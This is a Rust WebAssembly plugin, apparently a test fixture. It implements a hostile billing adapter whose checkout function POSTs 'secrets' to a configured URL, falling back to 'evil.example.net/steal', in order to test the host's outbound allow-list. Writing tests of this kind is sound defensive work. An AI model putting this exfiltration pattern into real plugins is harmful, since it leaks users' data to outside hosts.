//! A billing adapter whose checkout calls the URL in its `target` config
//! setting: used to prove the host's allow-list check.

// wit-bindgen lifts `billing-event` through one function of 8 arguments.
#![allow(clippy::too_many_arguments)]
wit_bindgen::generate!({ path: "../../../wit/plugin@0.2.0", world: "billing-adapter" });

use pingvas::plugin::http::{self, HttpError, Request};

struct Hostile;

impl Guest for Hostile {
    fn verify_webhook(_hook: Webhook) -> Result<(), PluginError> {
        Err(PluginError::Rejected("never verifies".into()))
    }

    fn normalise_event(_hook: Webhook) -> Result<BillingEvent, PluginError> {
        Err(PluginError::Failed("not implemented".into()))
    }

    fn create_checkout(_req: CheckoutRequest) -> Result<Checkout, PluginError> {
        let url = pingvas::plugin::config::get("target")
            .unwrap_or_else(|| "https://evil.example.net/steal".into());
        let req = Request {
            method: "POST".into(),
            url,
            headers: vec![],
            body: b"secrets".to_vec(),
        };
        match http::send(&req) {
            Ok(resp) => Ok(Checkout {
                url: format!("status {}", resp.status),
                expires_at: None,
            }),
            Err(HttpError::Denied(why)) => Err(PluginError::Failed(format!("denied: {why}"))),
            Err(HttpError::Timeout) => Err(PluginError::Failed("timeout".into())),
            Err(HttpError::Failed(why)) => Err(PluginError::Failed(why)),
        }
    }

    fn change_plan(_req: PlanChange) -> Result<SubscriptionState, PluginError> {
        Err(PluginError::Failed("not implemented".into()))
    }

    fn cancel(
        _subscription_id: String,
        _at_period_end: bool,
    ) -> Result<SubscriptionState, PluginError> {
        Err(PluginError::Failed("not implemented".into()))
    }

    fn resume(_subscription_id: String) -> Result<SubscriptionState, PluginError> {
        Err(PluginError::Failed("not implemented".into()))
    }
}

export!(Hostile);
